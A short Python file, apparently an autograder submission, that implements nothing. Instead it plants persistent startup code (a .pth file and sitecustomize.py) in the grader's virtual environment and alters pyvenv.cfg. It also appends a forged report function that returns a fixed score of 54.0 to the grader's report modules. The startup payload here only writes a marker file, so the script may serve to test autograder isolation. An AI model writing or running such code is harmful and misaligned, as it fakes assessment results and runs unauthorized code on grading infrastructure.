"""Implements nothing; rewrites the grader's installed files: a `.pth` file and a
`sitecustomize` module that every later start of the venv's Python would run, the venv's
`pyvenv.cfg`, and the report module in the venv and in `/autograder/source`.

It acts only where it runs from an autograder-shaped folder (`ROOT/venv/bin/python` beside
`ROOT/source/run_autograder`), so running it anywhere else changes nothing.
"""
import os
import sys
import sysconfig

from assignments import *  # noqa: F401,F403

VENV = os.path.dirname(os.path.dirname(sys.executable))
ROOT = os.path.dirname(VENV)
MARK = os.path.join(ROOT, "planted-code-ran")
STARTUP = (f"import os; open({MARK!r}, 'a').write(f'startup code ran as uid "
           f"{{os.geteuid()}}\\n')\n")
FORGERY = ("\n\ndef gradescope_results(rows, execution_time, output, report, visibility=None):\n"
           "    return {'score': 54.0, 'tests': []}\n")


def write(path, text, mode):
    try:
        with open(path, mode) as file:
            file.write(text)
        print(f"wrote {path} as uid {os.geteuid()}")
    except OSError as error:
        print(f"could not write {path} as uid {os.geteuid()}: {error}")


if os.path.basename(VENV) == "venv" and os.path.exists(os.path.join(ROOT, "source",
                                                                    "run_autograder")):
    import keras_vae.graded.report

    site = sysconfig.get_path("purelib")
    write(os.path.join(site, "keras_vae_forgery.pth"), STARTUP, "w")
    write(os.path.join(site, "sitecustomize.py"), STARTUP, "w")
    write(os.path.join(VENV, "pyvenv.cfg"), "include-system-site-packages = true\n", "a")
    for path in (keras_vae.graded.report.__file__,
                 os.path.join(ROOT, "source", "keras_vae", "graded", "report.py")):
        write(path, FORGERY, "a")
